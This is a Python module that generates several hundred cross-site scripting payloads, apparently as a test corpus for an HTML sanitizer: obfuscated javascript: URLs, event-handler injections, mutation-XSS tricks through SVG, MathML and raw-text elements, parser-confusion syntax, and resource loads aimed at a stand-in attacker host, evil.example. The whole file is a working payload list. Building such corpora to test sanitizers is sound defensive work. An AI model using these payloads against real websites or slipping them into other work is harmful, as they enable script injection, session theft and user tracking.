"""Hostile markup, made from what is known of how browsers read HTML: over three hundred pieces.

Every piece that runs says so by `hit()`; every piece that loads asks for something at `EVIL`.
"""

from __future__ import annotations

from itertools import product

EVIL = "https://evil.example"
_RUN = "window.hit&&hit()"

_SCHEMES = [
    *("javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "java\rscript:"),
    *("\x01javascript:", " javascript:", "\u00a0javascript:", "java\x00script:", "javascript :"),
    *("&#106;avascript:", "&#x6a;avascript:", "&#0000106avascript:", "java&Tab;script:"),
    *("java&NewLine;script:", "javascript&colon;", "javascript&#58;", "&#1;javascript:"),
    *("vbscript:", "livescript:", "mocha:", "data:text/html,<script>", "view-source:", "feed:"),
    *("data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==,", "blob:", "file:///", "jar:"),
    *("filesystem:", "about:", "intent:", "ms-word:", "tel:", "sms:", "ftp://", "ws://", "x:"),
    *("\u202ejavascript:", "\ufeffjavascript:", "javascript:javascript:", "http:javascript:"),
]
_HOLDERS = [
    '<a href="{}">x</a>',
    "<a href='{}'>x</a>",
    "<a href={}>x</a>",
    '<img src="{}">',
    '<form action="{}"><button>x</button></form>',
    '<svg><a xlink:href="{}"><text>x</text></a></svg>',
]
_HANDLERS = [
    "<{0} onerror={1} src=x>",
    "<{0} onload='{1}'>",
    '<{0} src="x" onerror="{1}"',
    "<{0}/onerror={1}/src=x>",
    "<{0} autofocus tabindex=1 onfocus={1}>",
    "<{0} style=animation-name:x onanimationstart={1}>",
    '<{0} style="background:url(' + EVIL + '/css)" onmouseover={1}>',
    "<{0} id=hit name=hit class=x style=position:fixed>",
]
_TAGS = [
    *("img", "svg", "body", "video", "audio", "input", "details", "iframe", "object", "math"),
    *("p", "a href=x", "table", "td", "h2", "figure", "blockquote", "marquee", "x-tag", "b"),
]
_LOADS = [
    *("<img src={0}>", "<img srcset='{0} 1x'>", "<picture><source srcset={0}></picture>"),
    *("<image src={0}>", "<input type=image src={0}>", "<video poster={0}>", "<audio src={0}>"),
    *("<video><source src={0}></video>", "<track src={0}>", "<iframe src={0}></iframe>"),
    *("<frame src={0}>", "<frameset><frame src={0}></frameset>", "<embed src={0}>"),
    *("<object data={0}></object>", "<applet code={0}></applet>", "<script src={0}></script>"),
    *("<link rel=stylesheet href={0}>", "<link rel=prefetch href={0}>", "<base href={0}>"),
    *("<link rel=icon href={0}>", "<link rel=dns-prefetch href={0}>", "<bgsound src={0}>"),
    *("<meta http-equiv=refresh content='0;url={0}'>", "<meta http-equiv=refresh content=0>"),
    *("<style>@import '{0}';</style>", "<style>*{{background:url({0})}}</style>"),
    *("<p style='background:url({0})'>x</p>", "<p style=\"background:\\75rl('{0}')\">x</p>"),
    *("<table background={0}><tr><td background={0}>x</table>", "<body background={0}>"),
    *("<svg><image href={0} /></svg>", "<svg><use href='{0}#x'/></svg>", "<a ping={0} href=/>x"),
    *("<svg><style>@import '{0}'</style></svg>", "<math href={0}>x</math>", "<html manifest={0}>"),
    *("<form action={0}><input name=q></form>", "<button formaction={0}>x</button>"),
    *("<isindex action={0}>", "<blockquote cite={0}>x", "<q cite={0}>x</q>", "<del cite={0}>x"),
    *("<svg><feImage href={0} /></svg>", "<xml src={0}></xml>", "<layer src={0}></layer>"),
    *("<portal src={0}></portal>", "<fencedframe src={0}></fencedframe>", "<img lowsrc={0}>"),
    *("<img dynsrc={0}>", "<img longdesc={0}>", "<img usemap={0}>", "<img src='//evil.example/x'>"),
    *(
        "<img src=\\\\evil.example\\x>",
        "<td style=list-style:url({0})>x",
        "<hr style=cursor:url({0})>",
    ),
]
_FOREIGN = [
    (
        "<math><mtext><table><mglyph><style><!--</style>"
        "<img title='--&gt;&lt;img src=1 onerror={0}&gt;'>"
    ),
    "<math><mtext><table><mglyph><style><math><img src=x onerror={0}></style>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={0}>",
    "<svg></p><style><a id='</style><img src=1 onerror={0}>'>",
    "<svg><desc><style><a title='</style><img src=x onerror={0}>'></desc></svg>",
    "<svg><title><style><img src=x onerror={0}></style></title></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>{0}</script>'></foreignObject></svg>",
    "<math><annotation-xml encoding=text/html><style><img src=x onerror={0}></style></math>",
    "<math><mi><malignmark><style><img src=x onerror={0}></style></mi></math>",
    "<svg><script>{0}</script></svg>",
    "<svg><script href='data:text/javascript,{0}'/></svg>",
    "<svg><animate onbegin={0} attributeName=x dur=1s></svg>",
    "<svg><set attributeName=href to='javascript:{0}'/></svg>",
    "<svg><a><animate attributeName=href values='javascript:{0}'/><text y=9>x</text></a></svg>",
    "<svg><style>&lt;/style&gt;&lt;img src=x onerror={0}&gt;</style></svg>",
    "<svg><![CDATA[<img src=x onerror={0}>]]></svg>",
    "<svg><p><![CDATA[</p><img src=x onerror={0}>]]>",
    "<noscript><p title='</noscript><img src=x onerror={0}>'></noscript>",
    "<noembed><p title='</noembed><img src=x onerror={0}>'></noembed>",
    "<noframes><p title='</noframes><img src=x onerror={0}>'></noframes>",
    "<xmp><p title='</xmp><img src=x onerror={0}>'></xmp>",
    "<iframe><p title='</iframe><img src=x onerror={0}>'></iframe>",
    "<textarea><p title='</textarea><img src=x onerror={0}>'></textarea>",
    "<title><p title='</title><img src=x onerror={0}>'></title>",
    "<style><p title='</style><img src=x onerror={0}>'></style>",
    "<template><script>{0}</script></template><img src=x onerror={0}>",
    "<plaintext><img src=x onerror={0}>",
    "<select><style></select><img src=x onerror={0}></style>",
    "<select><iframe></select><img src=x onerror={0}></iframe>",
    (
        "<select><template><style><!--</style><a rel='--></style></template></select>"
        "<img src=x onerror={0}>'>"
    ),
    "<table><form><input type=hidden><caption><svg><style><img src=x onerror={0}></style></table>",
    "<a><table><a href='x'><td></a><img src=x onerror={0}></table>",
    "<p><svg><title><p><style></title></style><img src=x onerror={0}></svg>",
    "<iframe srcdoc='&lt;script&gt;{0}&lt;/script&gt;'></iframe>",
    "<object data='data:text/html,<script>{0}</script>'></object>",
    '<embed src=\'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="{0}"/>\'>',
]
_SYNTAX = [
    "<!--><img src=x onerror={0}>",
    "<!---><img src=x onerror={0}>",
    "<!-- --!><img src=x onerror={0}> -->",
    "<!--<img src='--><img src=x onerror={0}>'>",
    "<!-- open <img src=x onerror={0}>",
    "<![CDATA[<script>{0}</script>]]>",
    "<![CDATA[<img src=x onerror={0}>",
    "<![CDATA[<sc]]>ript>{0}</script>",
    "<sc<![CDATA[ript>{0}</script>",
    "<?xml version='1.0'?><img src=x onerror={0}>",
    "<?php ?><img src=x onerror={0}>",
    "<!ENTITY x '{0}'>&x;<img src=x onerror={0}>",
    "<!DOCTYPE x [<!ENTITY y '<img src=x onerror={0}>'>]>&y;",
    "<! foo='><img src=x onerror={0}>'>",
    "</ foo='><img src=x onerror={0}>'>",
    "<% foo><img src=x onerror={0}>%>",
    "<img src=`x`onerror={0}>",
    "<img src=x` `onerror={0}>",
    "<img alt=`x onerror={0}` src=x>",
    "<img alt='`' title='` onerror={0}' src=x>",
    '<img """><script>{0}</script>">',
    "<img src=x\x00onerror={0}>",
    "<im\x00g src=x onerror={0}>",
    "<scr\x00ipt>{0}</scr\x00ipt>",
    "<script\x0c>{0}</script\x0c>",
    "<script/x>{0}</script/x>",
    "<script>{0}",
    "<script>{0}//<!--",
    "<scr<script>ipt>{0}</scr</script>ipt>",
    "<<script>{0}//<</script>",
    "<script src=data:,{0}></script>",
    "<script>`${{{0}}}`</script>",
    "<script type=module>{0}</script>",
    "<SCRIPT>{0}</SCRIPT>",
    "<\u017fcript>{0}</\u017fcript>",
    "\uff1cscript\uff1e{0}\uff1c/script\uff1e",
    "\u2039img src=x onerror={0}\u203a",
    "+ADw-script+AD4-{0}+ADw-/script+AD4-",
    "%3Cscript%3E{0}%3C/script%3E",
    "\\x3cscript\\x3e{0}\\x3c/script\\x3e",
    "&lt;script&gt;{0}&lt;/script&gt;",
    "&amp;lt;img src=x onerror={0}&amp;gt;",
    "&#60;img src=x onerror={0}&#62;",
    "&#x3c;img src=x onerror={0}&#x3e;",
    "{{{{constructor.constructor('{0}')()}}}}",
    "{{% raw %}}<img src=x onerror={0}>",
    "<a href='x' href='javascript:{0}'>x</a>",
    "<a href=x title='\"><img src=x onerror={0}>'>x</a>",
    "<a href='x&quot;><img src=x onerror={0}>'>x</a>",
    '<a href="x\'><img src=x onerror={0}>">x</a>',
    "<a href='http://a.example/\"onmouseover=\"{0}'>x</a>",
    "<a target=_top href='javascript:{0}'>x</a>",
    "<p/title='</p><img src=x onerror={0}>'>",
    "<td colspan='1\" onload=\"{0}'>x",
    "<img width='1\" onerror=\"{0}' src=x>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{0}</x:script>",
    "<html:script>{0}</html:script>",
    "<p onclick\n=\n{0}>x",
    "<p \x0conclick={0}>x",
    "<dialog open onclose={0}>x</dialog>",
    "<details open ontoggle={0}>x</details>",
    "<marquee onstart={0}>x</marquee>",
    "<body onpageshow={0}>",
    "<isindex type=image src=x onerror={0}>",
    "<keygen autofocus onfocus={0}>",
    "<meta charset=utf-7><img src=x onerror={0}>",
    "<meta http-equiv=set-cookie content=a=b>",
    "<meta http-equiv=content-security-policy content=\"script-src 'unsafe-inline'\">",
    "<slot onslotchange={0}></slot>",
    "<a href=x style='-moz-binding:url(x);behavior:url(x);width:expression({0})'>x</a>",
    "<div is=x-evil contenteditable onbeforeinput={0}>x</div>",
    "<button popovertarget=x>x</button><p popover id=x onbeforetoggle={0}>x</p>",
    "<script>{0}</script><noscript>",
    "<" * 40 + "script>{0}</script>",
    "<div>" * 60 + "<img src=x onerror={0}>",
    "<b><i><a href=x><p></b></a></i><img src=x onerror={0}>",
    "<pre>\n\n<img src=x onerror={0}></pre>",
    "<table>x<tr><p>y<td>z<img src=x onerror={0}>",
]


def hostile() -> list[str]:
    """Every piece once."""
    addresses = [f"{scheme}{_RUN}" for scheme in _SCHEMES]
    found = [holder.format(address) for holder, address in product(_HOLDERS, addresses)]
    found += [handler.format(tag, _RUN) for handler, tag in product(_HANDLERS, _TAGS)]
    found += [load.format(f"{EVIL}/{number}") for number, load in enumerate(_LOADS)]
    found += [piece.format(_RUN) for piece in (*_FOREIGN, *_SYNTAX)]
    return list(dict.fromkeys(found))
